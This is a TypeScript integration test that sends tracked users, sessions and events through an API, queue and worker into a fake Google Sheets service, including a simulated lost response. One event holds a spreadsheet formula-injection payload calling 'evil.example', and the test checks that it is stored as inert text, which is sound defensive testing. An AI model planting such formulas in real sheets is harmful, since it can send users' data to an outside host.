import { googleSheetsConnector } from '../../../connectors/google-sheets';
import { ConnectorRegistry } from '../../../connectors/registry';
import type { Connector } from '../../../connectors/types';
import { startWorkerRuntime, type WorkerRuntime } from '../../../jobs/worker-runtime';
import { createLogger } from '../../../src/core/logger';
import { startTestApi, type TestApi } from '../../helpers/api';
import { TEST_REDIS_URL } from '../../helpers/redis';
import { waitFor } from '../../helpers/wait';
import { SheetsFake } from '../../fakes/sheets';
import { rowsOf } from './harness';
import { FAST_WORKER, FAST_DELIVERY } from '../../helpers/fast-worker';

const FAST = { ...FAST_WORKER, delivery: { ...FAST_DELIVERY, maxRecordAttempts: 5 } };

let fake: SheetsFake;
let api: TestApi;
let worker: WorkerRuntime;
let spreadsheetId: string;

beforeAll(async () => {
  fake = await SheetsFake.start();
  spreadsheetId = fake.createSpreadsheet('Shop', ['Sheet1']).id;
  api = await startTestApi({}, { destinations: [{ id: 'sheets', type: 'google-sheets', enabled: true, settings: { spreadsheetId, endpoint: fake.url, rollover: 'none' } }] });
  worker = await startWorkerRuntime(api.config, TEST_REDIS_URL, new ConnectorRegistry([googleSheetsConnector as Connector]), createLogger('silent'), FAST);
});
afterAll(async () => {
  await worker.close();
  await api.close();
  await fake.close();
});

const post = (path: string, body: unknown) => api.http.post(path).set('Authorization', `Tracker ${api.token}`).send(body as object);
const tab = (title: string) => {
  try {
    return rowsOf(fake.values(spreadsheetId, title));
  } catch {
    return [];
  }
};

test('HTTP → queue → worker → Sheets: users, sessions and events, a lost response included', async () => {
  expect((await post('/v3/user', { _uid: 'u1', plan: 'free', seats: 3 })).status).toBe(202);
  expect((await post('/v3/session', { _sid: 's1', _uid: 'u1', page: '/home' })).status).toBe(202);
  fake.faults.add({ kind: 'lose-response' }, { method: 'values.batchUpdate' });
  const res = await post('/v3/event', [
    { _event: 'signup', _uid: 'u1', plan: 'free' },
    { _event: 'import', formula: '=IMPORTXML("https://evil.example","//a")', cart: { items: 2 } },
  ]);
  expect(res.status).toBe(202);
  const ids: string[] = res.body.results.map((r: { id: string }) => r.id);
  await waitFor(() => tab('events').length === 2 && tab('users').length === 1 && tab('sessions').length === 1, { message: 'rows in the fake', timeoutMs: 15_000 });

  expect((await post('/v3/user', { _uid: 'u1', plan: 'pro', seats: null })).status).toBe(202);
  await waitFor(() => tab('users')[0]?.plan === 'pro', { message: 'user merged', timeoutMs: 15_000 });

  expect(tab('events').map((r) => r._id)).toEqual(ids);
  expect(tab('events')[1]).toMatchObject({ _event: 'import', formula: '=IMPORTXML("https://evil.example","//a")', cart: '{"items":2}' });
  expect(fake.sheet(spreadsheetId, 'events').cell(3, 8)).toEqual({ t: 's', v: '=IMPORTXML("https://evil.example","//a")' });
  expect(tab('users')).toEqual([expect.objectContaining({ _uid: 'u1', plan: 'pro' })]);
  expect(tab('users')[0]).not.toHaveProperty('seats');
  expect(tab('sessions')).toEqual([expect.objectContaining({ _sid: 's1', _uid: 'u1', page: '/home' })]);
  expect(fake.requests.some((r) => r.status === -1)).toBe(true);
});
